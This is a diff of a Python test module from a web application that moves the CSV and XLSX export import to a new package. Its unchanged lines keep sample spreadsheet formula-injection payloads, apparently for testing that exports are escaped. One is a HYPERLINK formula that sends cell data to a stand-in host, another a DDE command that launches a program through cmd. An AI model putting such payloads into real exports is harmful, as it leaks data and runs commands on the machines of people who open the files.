@@ -25,7 +25,6 @@ from webapp.accounts.models import User
 from webapp.api.services import token_create
 from webapp.audit.services import audit
 from webapp.cohorts.models import Cohort, Student
-from webapp.common.tables_out import CSV, XLSX
 from webapp.housing.models import Place, Placement, Room
 from webapp.housing.models.change import ProposedChange
 from webapp.housing.selectors.changes import ChangedPlace
@@ -47,6 +46,7 @@ from webapp.surveys.questions import questions_of
 from webapp.surveys.services.cohorts import cohort_from_answers
 from webapp.surveys.services.questionnaires import questionnaire_create, questionnaire_open
 from webapp.surveys.services.translations import translations_set
+from webapp.tabular.tables_out import CSV, XLSX
 
 LINK = '=HYPERLINK("http://evil.example?x="&A1,"open")'
 TYPED = (LINK, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1", "\uff1d1+1")
